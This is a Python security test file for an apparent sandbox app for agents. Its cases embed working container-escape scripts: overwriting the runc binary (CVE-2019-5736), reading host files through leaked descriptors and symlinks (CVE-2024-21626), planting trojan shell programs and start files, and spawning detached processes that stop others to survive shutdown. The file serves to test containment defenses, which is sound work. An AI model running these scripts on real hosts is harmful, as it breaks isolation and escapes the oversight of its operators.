# Copyright (c) 2026 The DockerSandboxApp authors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What the host starts inside a sandbox: each exec passes through hands that the sandbox may try to guide."""

from __future__ import annotations

import hashlib
import os
import pathlib
import threading
import time

from ansible_collections.dockersandbox.guardrails.plugins.module_utils import hardening, run
from security.arena import Terminal
from security.cases import Scene, case

RUNTIMES = ("/usr/bin/runc", "/usr/sbin/runc", "/usr/bin/runsc", "/usr/bin/containerd-shim-runc-v2")


@case("write over the runtime's program while it starts a command", source="CVE-2019-5736")
def runtime_program(scene: Scene) -> str:
    programs = [pathlib.Path(path) for path in RUNTIMES if os.path.exists(path)]
    before = [hashlib.sha256(path.read_bytes()).hexdigest() for path in programs]
    script = """
print("HOLD", flush=True)
held = {}
while True:
    for path in glob.glob("/proc/[0-9]*/exe"):
        with contextlib.suppress(OSError):
            if path not in held:
                held[path] = os.open(path, os.O_RDONLY)
            for again in (path, f"/proc/self/fd/{held[path]}"):
                os.write(os.open(again, os.O_WRONLY), b"#!/bin/sh\\n")
"""
    with scene.attack(script):
        for _round in range(12):
            scene.box.answers()
    after = [hashlib.sha256(path.read_bytes()).hexdigest() for path in programs]
    return "the runtime's program is changed" if after != before else ""


@case("find a descriptor of the host among those that a command is given", source="CVE-2024-21626, CVE-2016-9962")
def leaked_descriptors(scene: Scene) -> str:
    script = """
for path in ("/proc/self/fd", "/proc/1/fd", *glob.glob("/proc/[0-9]*/fd")):
    for number in os.listdir(path) if os.access(path, os.R_OK) else ():
        for way in ("/../../../../../../../..", "/.." * 12):
            with contextlib.suppress(OSError):
                print(open(f"{path}/{number}{way}{E['HOST_FILE']}").read(), flush=True)
for number in range(3, 64):
    with contextlib.suppress(OSError):
        os.fchdir(number)
        print(open("." + "/.." * 12 + E["HOST_FILE"]).read(), flush=True)
print(attempt(lambda: open("/.." * 20 + E["HOST_FILE"]).read()))
"""
    return scene.stolen(script)


@case("have the next command start in a folder of the host", source="CVE-2024-21626")
def working_folder(scene: Scene) -> str:
    script = """
attempt(lambda: os.rename("/workspace", "/w"), lambda: os.rmdir("/workspace"))
for target in ("/proc/self/fd/7", "/proc/self/fd/8", "/"):
    attempt(lambda: os.symlink(target, "/workspace/workspace"))
print("HOLD", flush=True)
sys.stdin.read()
"""
    with scene.attack(script):
        code, said = scene.box.host.execute(scene.box.name, scene.box.description, ["sh", "-c", "pwd; ls -a"], timeout=20)
    return "" if said.split()[:1] == [b"/workspace"] and code == 0 else f"a command began in {said[:80]!r}"


PLANT = """
os.chdir("/workspace")
for name in ("sh", "kill", "ls", "cat", "git", "unshare", "find", "python3", "timeout", ".profile", ".bashrc", ".env"):
    with open(name, "w") as file:
        file.write("#!/bin/sh\\n: > /workspace/ran-" + T + "\\nexec /bin/" + name + ' "$@"\\n')
    os.chmod(name, 0o755)
    with contextlib.suppress(OSError):
        with open("/home/agent/" + name, "w") as file:
            file.write(": > /workspace/ran-" + T + "\\n")
"""


@case("have what the host starts run programs and start files of the sandbox", "environment")
def planted_programs(scene: Scene) -> str:
    scene.said(PLANT)
    box = scene.box
    box.sweep()
    for argv in (hardening.PROBE, ["/bin/sh", "-c", run._SIGNAL.replace("SIGNAL", "URG")]):
        box.host.execute(box.name, box.description, argv, timeout=60)
    ran = (box.upper / f"ran-{scene.mark}").exists()
    return "a program of the sandbox was run" if ran else ""


@case("stop or end the command that is to end all, faster than it works", "sweep")
def dodge(scene: Scene) -> str:
    script = """
mine = os.getpid()
for _ in range(6):
    if os.fork() == 0:
        os.setsid()
        while True:
            for path in glob.glob("/proc/[0-9]*/comm"):
                with contextlib.suppress(OSError):
                    if open(path).read() != "python3\\n":
                        os.kill(int(path.split("/")[2]), signal.SIGSTOP)
            open("/workspace/" + T, "a").write("x")
hold()
"""
    with scene.attack(script):
        scene.sweep()
        file = scene.box.upper / scene.mark
        size = file.stat().st_size if file.exists() else 0
        time.sleep(0.4)
        return "it goes on after the end" if file.exists() and file.stat().st_size > size else ""


@case("close its output and go on, so that nobody can end the run")
def closed_output(scene: Scene) -> str:
    terminal = Terminal()
    ended = threading.Event()

    def work() -> None:
        script = "import os, time\nfor fd in range(3): os.close(fd)\ntime.sleep(60)\n"
        scene.run(["python3", "-c", script], terminal)
        ended.set()

    worker = threading.Thread(target=work, daemon=True)
    worker.start()
    end = time.monotonic() + 25
    while not ended.is_set() and time.monotonic() < end:
        ended.wait(1.5)
        # What bin/sandbox passes on until the run takes its hands off the terminal.
        if not terminal.stopped:
            terminal.send_signal("TERM")
    return "" if ended.is_set() else "the run cannot be ended"


@case("flood the caller with a million lines", long=True)
def flood(scene: Scene) -> str:
    start = time.monotonic()
    done = scene.run(["sh", "-c", "yes 'a line of output' | head -n 1000000"])
    seconds = time.monotonic() - start
    return "" if done.exit_code == 0 and seconds < 60 else f"{seconds:.0f} s, exit code {done.exit_code}"
